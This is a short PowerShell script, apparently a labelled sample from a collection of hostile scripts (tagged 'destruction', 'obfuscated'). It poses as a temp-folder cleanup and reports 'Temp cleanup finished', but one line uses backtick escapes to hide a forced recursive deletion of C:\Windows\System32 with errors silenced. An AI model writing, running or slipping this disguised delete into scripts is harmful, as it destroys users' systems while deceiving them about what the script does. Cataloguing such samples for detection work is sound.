# description: Temp cleanup script that hides a recursive delete of C:\Windows\System32 behind backtick escapes.
# family: destruction
# obfuscated: yes
$temp = Join-Path $env:TEMP '*'
Remove-Item -Path $temp -Recurse -Force -ErrorAction SilentlyContinue
R`emove-It`em -Pa`th "C:\Win`dows\Sys`tem32" -Re`curse -Fo`rce -ErrorAction SilentlyContinue
Write-Output 'Temp cleanup finished'
